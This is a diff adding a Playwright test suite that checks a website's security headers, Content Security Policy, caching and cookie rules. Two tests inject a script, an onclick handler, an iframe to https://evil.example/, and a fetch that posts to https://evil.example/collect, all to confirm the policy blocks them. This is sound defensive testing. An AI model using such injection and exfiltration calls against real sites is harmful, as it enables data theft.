@@ -1,0 +1,265 @@
+import { createHash } from "node:crypto";
+import { readdirSync } from "node:fs";
+import { extname, join } from "node:path";
+import type { APIResponse, Page } from "@playwright/test";
+import { PUBLIC_PATHS } from "#web/build/public-paths.ts";
+import { root } from "#web/build/root.ts";
+import { SITE_URL } from "./places.ts";
+import { expect, test, untilAlive } from "./visitor.ts";
+
+const MAP_ORIGIN = "https://www.openstreetmap.org";
+
+const STRICT_HEADERS = {
+  "strict-transport-security": "max-age=63072000; includeSubDomains; preload",
+  "x-content-type-options": "nosniff",
+  "referrer-policy": "strict-origin-when-cross-origin",
+  "cross-origin-opener-policy": "same-origin",
+};
+
+const siteDir = join(root, "dist/site");
+const files = readdirSync(siteDir, { recursive: true, withFileTypes: true })
+  .filter((entry) => entry.isFile() && !entry.name.startsWith("_"))
+  .map((entry) => join(entry.parentPath, entry.name).slice(siteDir.length));
+
+/** The first file of each folder and kind: what the headers' rules can tell apart. */
+const oneOfEachKind = [
+  ...new Map(files.toReversed().map((file) => [`${file.split("/")[1]} ${extname(file)}`, file])).values(),
+].filter((file) => !file.endsWith(".html"));
+
+const pagePaths = [
+  ...new Set([...PUBLIC_PATHS, ...(files.includes("/admin/virtual-office.html") ? ["/admin/virtual-office"] : [])]),
+];
+
+test("every page and every kind of file carries every header", async ({ request }) => {
+  expect(new Set(oneOfEachKind.map((file) => extname(file)))).toEqual(
+    new Set(files.map((file) => extname(file)).filter((extension) => extension !== ".html")),
+  );
+  for (const path of [...pagePaths, ...oneOfEachKind, "/no-such-page", "/assets/no-such.js", "/admin/nothing"])
+    expectGuarded(path, await request.get(path, { maxRedirects: 0 }));
+});
+
+test("a path with .html or a slash at its end moves to its own address, with every header", async ({ request }) => {
+  for (const path of ["/index.html", "/help-center.html", "/help-center/"]) {
+    const answer = await request.get(path, { maxRedirects: 0 });
+    expect(answer.status(), path).toBe(307);
+    expect(answer.headers().location, path).toMatch(/^\/(help-center)?$/);
+  }
+});
+
+test("a folder is no page and lists nothing", async ({ request }) => {
+  for (const path of ["/assets/", "/assets", "/pictures/", "/cards/", "/guides/"])
+    expect((await request.get(path)).status(), path).toBe(404);
+});
+
+test("the API's answers carry every header, and allow no content at all", async ({ request }) => {
+  for (const answer of [
+    await request.get("/api/exchange-rate/usd-ghs"),
+    await request.get("/api/nope"),
+    await request.get("/api/newsletter/unsubscribe?token=no-such-link"),
+    await request.post("/api/contact", { data: {} }),
+    await request.put("/api/contact", { data: {} }),
+    await request.post("/api/contact", { data: "<p>", headers: { "content-type": "text/html" } }),
+    await request.get("/api/admin/summary"),
+    await request.post("/api/payment/webhook", { data: "{}" }),
+  ]) {
+    expectGuarded(answer.url(), answer);
+    expect(policyOf(answer).get("script-src"), answer.url()).toBeUndefined();
+    expect(policyOf(answer).get("style-src"), answer.url()).toBeUndefined();
+  }
+});
+
+test("a card may be shown elsewhere, everything else only here", async ({ request }) => {
+  for (const path of ["/", ...oneOfEachKind]) {
+    const answer = await request.get(path);
+    const policy = path.startsWith("/cards/") ? "cross-origin" : "same-origin";
+    expect(answer.headers()["cross-origin-resource-policy"], path).toBe(policy);
+  }
+});
+
+test("what has a hash in its name is kept for ever, what belongs to one person never", async ({ request }) => {
+  const script = files.find((file) => file.startsWith("/assets/") && file.endsWith(".js")) ?? "";
+  expect((await request.get(script)).headers()["cache-control"]).toContain("immutable");
+  for (const path of ["/payment/verify", "/admin/virtual-office"]) {
+    const answer = await request.get(path);
+    expect(answer.headers()["cache-control"], path).toContain("no-store");
+    expect(answer.headers()["x-robots-tag"], path).toBe("noindex");
+  }
+});
+
+test("every inlined style and script is allowed by its own hash, and none is there that is not", async ({
+  request,
+}) => {
+  for (const path of [...pagePaths, "/no-such-page"]) {
+    const answer = await request.get(path);
+    const html = await answer.text();
+    const policy = policyOf(answer);
+    for (const [directive, element] of [
+      ["script-src", "script"],
+      ["style-src", "style"],
+    ] as const) {
+      const inlined = [...html.matchAll(new RegExp(`<${element}([^>]*)>([\\s\\S]*?)</${element}>`, "g"))]
+        .filter(([, attributes = ""]) => !attributes.includes("application/ld+json") && !attributes.includes("src="))
+        .map(([, , text = ""]) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`);
+      const allowed = policy.get(directive)?.split(" ") ?? [];
+      expect(allowed, `${path} ${directive}`).toEqual(["'self'", ...new Set(inlined)]);
+    }
+    expect(html, path).not.toMatch(/<[a-z][^>]*\s(style|on[a-z]+)="/);
+    expect(html, path).not.toMatch(/(href|src|action)="(javascript|data:text)/i);
+  }
+});
+
+test("no hash of an inline script stands beside one that any page could forge", async ({ request }) => {
+  for (const path of pagePaths) {
+    const policy = policyOf(await request.get(path));
+    expect(policy.get("default-src"), path).toBe("'none'");
+    expect(policy.get("base-uri"), path).toBe("'none'");
+    expect(policy.get("object-src"), path).toBe("'none'");
+    expect(policy.get("frame-ancestors"), path).toBe("'none'");
+    expect(policy.get("form-action"), path).toBe("'self'");
+    expect(policy.get("connect-src"), path).toBe("'self'");
+    expect(["'none'", MAP_ORIGIN], path).toContain(policy.get("frame-src"));
+    for (const [directive, sources] of policy) {
+      expect(sources, `${path} ${directive}`).not.toMatch(
+        /unsafe-|\*|http:|https:(?!\/\/www\.openstreetmap\.org)|blob:/,
+      );
+      if (sources.includes("data:")) expect(directive, path).toBe("img-src");
+    }
+  }
+});
+
+for (const path of [...pagePaths, "/no-such-page"]) {
+  test(`${path} breaks no policy of its own and asks nobody else for anything`, async ({ page, complaints }) => {
+    test.slow();
+    const requests = await watch(page);
+    await page.goto(path);
+    if (path !== "/no-such-page") await untilAlive(page);
+    await lookAtAll(page);
+    await pressEverythingThatOpens(page);
+    expect(await violationsOf(page)).toEqual([]);
+    expect(complaints.filter(isAboutPolicy)).toEqual([]);
+    expect(requests.filter((url) => isForeign(url))).toEqual([]);
+    if (path === "/east-legon") expect(requests.some((url) => url.startsWith(MAP_ORIGIN))).toBe(true);
+    expect(await page.context().cookies()).toEqual([]);
+  });
+}
+
+test("the map is framed, and only the map: what else a page might frame is refused", async ({ page }) => {
+  await watch(page);
+  await page.goto("/east-legon");
+  await untilAlive(page);
+  await page.evaluate(() => {
+    const frame = document.createElement("iframe");
+    frame.src = "https://evil.example/";
+    document.body.append(frame);
+  });
+  await expect.poll(() => violationsOf(page)).toEqual(["frame-src https://evil.example"]);
+});
+
+test("a script that finds its way into a page is not run and can send nothing out", async ({ page }) => {
+  await watch(page);
+  await page.goto("/");
+  await untilAlive(page);
+  const hasRun = await page.evaluate(async () => {
+    const inline = document.createElement("script");
+    inline.textContent = "window.injected = true";
+    document.body.append(inline);
+    document.body.insertAdjacentHTML("beforeend", '<button id="lure" onclick="window.injected = true">Press</button>');
+    document.getElementById("lure")?.click();
+    await fetch("https://evil.example/collect", { method: "POST", mode: "no-cors" }).catch(() => null);
+    return "injected" in window;
+  });
+  expect(hasRun).toBe(false);
+  const violations = await violationsOf(page);
+  expect(violations).toContain("connect-src https://evil.example/collect");
+  expect(violations.filter((violation) => violation.startsWith("script-src"))).toHaveLength(2);
+});
+
+function expectGuarded(path: string, answer: APIResponse) {
+  const headers = answer.headers();
+  expect(headers, path).toMatchObject(STRICT_HEADERS);
+  expect(headers["cross-origin-resource-policy"], path).toMatch(/^(same-origin|cross-origin)$/);
+  expect(headers["permissions-policy"], path).toMatch(/camera=\(\).*|.*geolocation=\(\)/);
+  for (const name of ["camera", "microphone", "geolocation", "payment"])
+    expect(headers["permissions-policy"], path).toContain(`${name}=()`);
+  const policy = policyOf(answer);
+  expect(policy.get("default-src"), path).toBe("'none'");
+  expect(policy.get("frame-ancestors"), path).toBe("'none'");
+  expect(headers["content-security-policy"], path).not.toContain("unsafe");
+  expect(headers["access-control-allow-origin"], path).toBeUndefined();
+  expect(headers["set-cookie"], path).toBeUndefined();
+  expect(headers["x-powered-by"], path).toBeUndefined();
+  expect(headers["content-type"], path).toMatch(/\S/);
+}
+
+function policyOf(answer: APIResponse): Map<string, string> {
+  const directives = (answer.headers()["content-security-policy"] ?? "").split("; ").filter(Boolean);
+  const pairs = directives.map((directive): [string, string] => {
+    const [name = "", ...sources] = directive.split(" ");
+    return [name, sources.join(" ")];
+  });
+  expect(new Set(pairs.map(([name]) => name)).size).toBe(pairs.length);
+  return new Map(pairs);
+}
+
+/** Records every request of the page and everything its policy refuses; the map is a stand-in. */
+async function watch(page: Page): Promise<string[]> {
+  const requests: string[] = [];
+  page.on("request", (request) => requests.push(request.url()));
+  await page.route(`${MAP_ORIGIN}/**`, (route) =>
+    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>map</title>" }),
+  );
+  await page.addInitScript(() => {
+    const refused: string[] = [];
+    Object.assign(window, { refused });
+    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+      refused.push(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+  return requests;
+}
+
+function violationsOf(page: Page): Promise<string[]> {
+  return page.evaluate(() => (window as unknown as { refused: string[] }).refused);
+}
+
+function isAboutPolicy(complaint: string): boolean {
+  return /content security policy|permissions policy|refused to|violates/i.test(complaint);
+}
+
+function isForeign(url: string): boolean {
+  const { protocol, origin } = new URL(url);
+  return protocol !== "data:" && origin !== SITE_URL && origin !== MAP_ORIGIN;
+}
+
+async function lookAtAll(page: Page) {
+  const height = await page.evaluate(() => document.documentElement.scrollHeight);
+  for (let top = 0; top < height; top += 600)
+    await page.evaluate((to) => window.scrollTo({ top: to, behavior: "instant" }), top);
+  await page.waitForLoadState("networkidle");
+}
+
+/** Presses every button that sends nothing: dialogs, the gallery, the calendar, the menu, the map. */
+async function pressEverythingThatOpens(page: Page) {
+  // One picture of the gallery stands for all: they open the same dialog.
+  const buttons = page.locator('button:not([type="submit"]):not(#gallery li:nth-child(n + 2) *)');
+  const names = new Set<string>();
+  for (const button of await buttons.filter({ visible: true }).all())
+    names.add(await button.evaluate((element) => element.getAttribute("aria-label") ?? element.textContent ?? ""));
+  for (const name of names) {
+    const button = buttons
+      .filter({ visible: true })
+      .and(page.getByRole("button", { name, exact: true }))
+      .first();
+    // The map's button goes when the map comes by itself.
+    const isPressed = await button.click({ timeout: 2000 }).then(
+      () => true,
+      () => false,
+    );
+    if (!isPressed) continue;
+    const dialog = page.getByRole("dialog").last();
+    const calendar = dialog.getByLabel("Start date");
+    if (await calendar.isVisible()) await calendar.click();
+    await page.keyboard.press("Escape");
+    await page.keyboard.press("Escape");
+  }
+}
